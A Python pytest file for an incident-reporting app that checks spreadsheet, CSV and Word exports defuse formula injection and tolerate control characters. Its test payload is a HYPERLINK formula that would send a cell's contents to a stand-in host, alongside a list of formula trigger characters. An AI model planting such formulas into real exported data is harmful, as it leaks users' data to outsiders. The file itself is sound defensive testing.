"""Every spreadsheet and CSV download shows what users typed as text: a formula never comes alive,
and a control character pasted from Word (stored before input was cleaned) never breaks a download."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from docx import Document
from openpyxl import load_workbook

from ir_app.models import Incident, InformationSystem, Role
from tests.incident_support import quick_report

FORMULA = '=HYPERLINK("http://x/?"&A1,"x")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def officer(make_user, commune):
    return make_user(Role.OFFICER, organisation=commune)


def _stored_system(session, commune, clock, **values) -> InformationSystem:
    """A system as it may already sit in the database (written before input was cleaned)."""
    system = InformationSystem(commune_id=commune.id, code=values.pop("code", "HT1"), created_at=clock.now(),
                               updated_at=clock.now(), **values)
    session.add(system)
    session.commit()
    return system


def _cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_formulas_are_text(data: bytes, expected: int) -> None:
    cells = _cells(data)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    shown = [cell for cell in cells if cell.value == FORMULA]
    assert len(shown) == expected  # readable, exactly as typed
    assert all(cell.quotePrefix for cell in shown)


def test_a_formula_typed_into_a_system_is_exported_as_text(make_web, officer, session, commune, clock):
    _stored_system(session, commune, clock, name=FORMULA, owner_name=FORMULA, operator_name=FORMULA,
                   purpose=FORMULA, domains="+84 912 345 678", public_ips="@evil")
    client = make_web(officer)
    systems = client.get("/systems/export.xlsx")
    assert systems.status_code == 200
    _assert_formulas_are_text(systems.data, 4)
    annual = client.get("/reports/annual.xlsx")
    assert annual.status_code == 200
    _assert_formulas_are_text(annual.data, 3)


def test_a_formula_typed_as_a_login_e_mail_is_defused_in_the_audit_csv(web, make_web, make_user, commune):
    web.post_form("/login", {"email": FORMULA, "password": "sai"})
    web.post_form("/login", {"email": "-2+3@x.vn", "password": "sai"})
    admin = make_web(make_user(Role.ADMIN, organisation=commune))
    response = admin.get("/audit/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    fields = [field for row in rows for field in row]
    assert [field for field in fields if field.startswith(TRIGGERS)] == []
    assert "'" + FORMULA.lower() in fields  # still readable (e-mails are kept in lower case)


def test_a_vertical_tab_from_word_does_not_break_the_downloads(make_web, officer, session, commune, clock):
    _stored_system(session, commune, clock, name="Một cửa\x0bđiện tử\x01", purpose="Dòng 1\nDòng 2\x0c")
    incident = quick_report(session, officer, commune, clock.now() - timedelta(hours=1))
    session.get(Incident, incident.id).title = "Máy\x0bbị khóa\x1b"
    session.commit()
    client = make_web(officer)
    systems = client.get("/systems/export.xlsx")
    assert systems.status_code == 200
    values = [cell.value for cell in _cells(systems.data)]
    assert "Một cửa điện tử " in values and "Dòng 1\nDòng 2 " in values
    summary = client.get("/incidents/summary.xlsx?period=week&on=2026-11-26")
    assert summary.status_code == 200
    assert "Máy bị khóa " in [cell.value for cell in _cells(summary.data)]
    assert client.get("/reports/annual.xlsx").status_code == 200
    document = client.get("/incidents/summary.docx?period=week&on=2026-11-26")
    assert document.status_code == 200
    text = "\n".join(cell.text for table in Document(io.BytesIO(document.data)).tables
                     for row in table.rows for cell in row.cells)
    assert "Máy bị khóa" in text


def test_every_spreadsheet_and_csv_writer_goes_through_the_export_helper():
    """A new export written straight with openpyxl or csv would bring formula injection back."""
    from pathlib import Path

    import ir_app

    offenders = []
    for source in Path(ir_app.__file__).parent.rglob("*.py"):
        text = source.read_text(encoding="utf-8")
        if "Workbook()" in text and ("append_row" not in text or ".append([" in text):
            offenders.append(source.name)
        if "csv.writer" in text and "csv_row" not in text:
            offenders.append(source.name)
    assert offenders == []


def test_formulas_typed_into_measures_and_risks_are_exported_as_text(make_web, officer, session, commune, clock):
    from datetime import date

    from ir_app.models import Measure, MeasureRequirement
    from ir_app.models.risks import Risk

    system = _stored_system(session, commune, clock, name=FORMULA)
    session.add_all([
        Measure(commune_id=commune.id, title=FORMULA, description=FORMULA, responsible_unit=FORMULA,
                category="management", scope="commune", created_at=clock.now(), updated_at=clock.now(),
                requirement_links=[MeasureRequirement(requirement_id="QL.CS.1")]),
        Risk(commune_id=commune.id, system_id=system.id, title=FORMULA, description=FORMULA, asset=FORMULA,
             likelihood=3, impact=4, residual_likelihood=2, residual_impact=2, treatment="accept",
             accepted_by=FORMULA, accepted_reason=FORMULA, accepted_until=date(2027, 5, 31),
             created_at=clock.now(), updated_at=clock.now())])
    session.commit()
    client = make_web(officer)
    measures = client.get(f"/measures/export.xlsx?commune={commune.code}")
    assert measures.status_code == 200
    _assert_formulas_are_text(measures.data, 3)
    for url in (f"/risks/export.xlsx?commune={commune.code}", f"/systems/{system.id}/risks/export.xlsx"):
        risks = client.get(url)
        assert risks.status_code == 200, url
        _assert_formulas_are_text(risks.data, 6)  # system, risk, asset, who accepted, why, description
